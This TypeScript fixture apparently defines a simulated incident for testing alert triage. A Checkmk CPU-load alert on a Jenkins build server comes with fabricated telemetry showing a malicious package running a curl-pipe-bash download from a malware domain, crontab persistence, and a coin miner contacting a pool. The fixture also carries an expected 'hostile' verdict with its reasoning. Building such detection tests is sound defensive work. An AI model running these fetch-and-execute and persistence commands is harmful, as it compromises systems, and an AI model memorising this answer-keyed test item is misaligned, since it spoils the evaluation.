// Checkmk complains about the load of the build server; a package that a build pulled in brought a miner along.
import { alert, connected, hashes, hostile, ran, situation, wrote } from '../../shorthand.ts'

export const checkmkCpuLoadOnTheBuildServer = situation(
  'checkmk-cpu-load-on-the-build-server',
  'chains',
  'Checkmk: CPU load CRIT',
  (setting) => {
    const server = setting.machine('srv-build-02')
    const wei = setting.person('wei.chen')
    const at = setting.ago({ hours: 2, minutes: 4 })
    const entered = setting.ago({ hours: 3, minutes: 1 })
    const minute = 60_000
    const miner = setting.file('kworkerd5')
    const pool = '141.95.206.77'
    const drop = 'static.fastpkg-mirror.xyz'
    const account = { AccountName: 'jenkins', AccountDomain: server.host }
    const short = setting.iso(at).replace('T', ' ').slice(0, 19)
    return {
      alerts: [
        alert(setting, at + minute, 'checkmk', 'CPU load', {
          NOTIFICATIONTYPE: 'PROBLEM',
          WHAT: 'SERVICE',
          OMD_SITE: 'havskog',
          CONTACTS: 'it-larm,oskar.falk',
          HOSTNAME: server.host,
          HOSTALIAS: 'Build server Gothenburg (Jenkins)',
          HOSTADDRESS: server.ip,
          HOST_ADDRESS_4: server.ip,
          HOSTSTATE: 'UP',
          HOSTGROUPNAMES: 'check_mk,linux-servers,research',
          HOSTTAGS:
            '/wato/linux/ agent auto-piggyback checkmk-agent cmk-agent ip-v4 ip-v4-only lan prod site:havskog tcp',
          HOST_FILENAME: '/wato/linux/hosts.mk',
          SERVICEDESC: 'CPU load',
          SERVICESTATE: 'CRITICAL',
          LASTSERVICESTATE: 'OK',
          PREVIOUSSERVICEHARDSTATE: 'OK',
          SERVICESTATEID: '2',
          SERVICEATTEMPT: '3',
          MAXSERVICEATTEMPTS: '3',
          SERVICEOUTPUT:
            '15 min load: 31.84, 15 min load per core: 3.98 (8 cores) (warn/crit at 2.00/3.00 per core)(!!)',
          LONGSERVICEOUTPUT:
            '15 min load: 31.84\\n15 min load per core: 3.98 (8 cores) (warn/crit at 2.00/3.00 per core)(!!)\\nTop processes at check time: kworkerd5 (jenkins) 742.1 %, java (jenkins) 22.4 %, cmk-agent (root) 1.1 %',
          SERVICEPERFDATA: 'load1=33.02;16;24;0;8 load5=32.7;16;24;0;8 load15=31.84;16;24;0;8',
          SERVICECHECKCOMMAND: 'check_mk-cpu_loads',
          SERVICEGROUPNAMES: '',
          SERVICEPROBLEMID: String(setting.seeded.number('checkmk problem', 10_000, 99_999)),
          SERVICE_SL: '10',
          SERVICE_EC_CONTACT: '',
          LASTSERVICESTATECHANGE_REL: '0d 00:00:58',
          LASTSERVICEOK_REL: '0d 00:54:02',
          LONGDATETIME: new Date(at).toUTCString(),
          SHORTDATETIME: short,
          MICROTIME: `${at}000`,
          NOTIFICATIONCOMMENT: '',
          NOTIFICATIONNUMBER: '1',
          PARAMETER_WEBHOOK_URL: 'store, vedette-intake',
          PARAMETER_MATCHED_RULE: 'All CRIT of servers',
          CMK_VERSION: '2.3.0p19.cre',
          SERVICEURL: `https://mon.havskoginstruments.com/havskog/check_mk/index.py?start_url=view.py%3Fview_name%3Dservice%26host%3D${server.host}%26service%3DCPU%20load`,
          HOSTPERFDATA: 'rta=0.412ms;200;500;0 pl=0%;80;100',
          HOSTOUTPUT: 'Packet received via smart PING',
          HOST_ADDRESS_FAMILY: '4',
          HOSTCONTACTGROUPNAMES: 'all,it-larm',
          HOSTNOTIFICATIONNUMBER: '0',
          SERVICEDOWNTIME: '0',
          SERVICEFORURL: 'CPU%20load',
          SERVICENOTESURL: '',
          SERVICELABEL_os: 'linux',
          HOSTLABEL_site: 'gothenburg',
          HOSTLABEL_vendor: 'jenkins',
          CONTACTEMAIL: 'it-larm@havskoginstruments.com',
          CONTACTALIAS: 'IT larm',
          PARAMETER_BULK_MODE: 'off',
          GRAPH_URL: 'https://mon.havskoginstruments.com/havskog/check_mk/ajax_graph_images.py',
        }),
      ],
      facts: {
        intelligence: [
          setting.risk('ip', pool, 67, [
            ['Cryptomining Pool Address', 3, 'Stratum proxy of a mining group, seen this week in intrusions.'],
          ]),
          setting.risk('domain', drop, 84, [
            ['Recently Active Malware Distribution', 4, 'Hands out coin miners for Linux since last week.'],
          ]),
        ],
        telemetry: [
          ...[26, 20, 14, 8].map((hours) =>
            ran(server, setting.ago({ hours }), 'make', 'make -j8 firmware-hvs300', {
              ...account,
              FolderPath: '/usr/bin',
              InitiatingProcessFileName: 'java',
              InitiatingProcessCommandLine: 'java -jar /usr/share/java/jenkins.war',
            }),
          ),
          ran(server, entered - 20_000, 'python3', 'python3 -m pip install -r tools/requirements.txt', {
            ...account,
            FolderPath: '/usr/bin',
            InitiatingProcessFileName: 'java',
            InitiatingProcessCommandLine: 'java -jar /usr/share/java/jenkins.war',
          }),
          ran(server, entered, 'bash', `bash -c curl -s https://${drop}/x86/i.sh | bash`, {
            ...account,
            FolderPath: '/usr/bin',
            InitiatingProcessFileName: 'python3',
            InitiatingProcessCommandLine: 'python3 -c exec(open("/tmp/pip-install-hvsfwtools/setup.py").read())',
            InitiatingProcessAccountName: 'jenkins',
          }),
          connected(server, entered + 1000, '188.214.106.9', {
            RemoteUrl: drop,
            InitiatingProcessFileName: 'curl',
            InitiatingProcessAccountName: 'jenkins',
          }),
          wrote(server, entered + 6000, 'kworkerd5', '/var/tmp/.x', miner, {
            InitiatingProcessFileName: 'curl',
            InitiatingProcessAccountName: 'jenkins',
            FileSize: 6_204_118,
          }),
          ran(server, entered + 9000, 'crontab', 'crontab -  (*/5 * * * * /var/tmp/.x/kworkerd5)', {
            ...account,
            FolderPath: '/usr/bin',
            InitiatingProcessFileName: 'bash',
          }),
          ran(
            server,
            entered + 12_000,
            'kworkerd5',
            '/var/tmp/.x/kworkerd5 -o 141.95.206.77:3333 -u 48edf.build --cpu-max-threads-hint=95 -B',
            {
              ...account,
              ...hashes(miner),
              FolderPath: '/var/tmp/.x',
              InitiatingProcessFileName: 'bash',
            },
          ),
          ...[1, 20, 40, 60, 80, 100, 120, 140].map((later) =>
            connected(server, entered + later * minute, pool, {
              RemotePort: 3333,
              InitiatingProcessFileName: 'kworkerd5',
              InitiatingProcessSHA256: miner.sha256,
              InitiatingProcessAccountName: 'jenkins',
            }),
          ),
          ran(setting.laptopOf('wei.chen'), at - 30 * minute, 'Code.exe', 'Code.exe', {
            AccountName: wei.account,
            AccountUpn: wei.email,
            InitiatingProcessFileName: 'explorer.exe',
          }),
        ],
      },
      expected: hostile(server.host),
      because:
        'The load is not a build: the set-up of a package that a build installed started a shell that fetched a script from a known distributor of miners, and the process at the top of the monitoring’s own list has talked to a mining pool since. It is set in crontab to come back.',
    }
  },
)
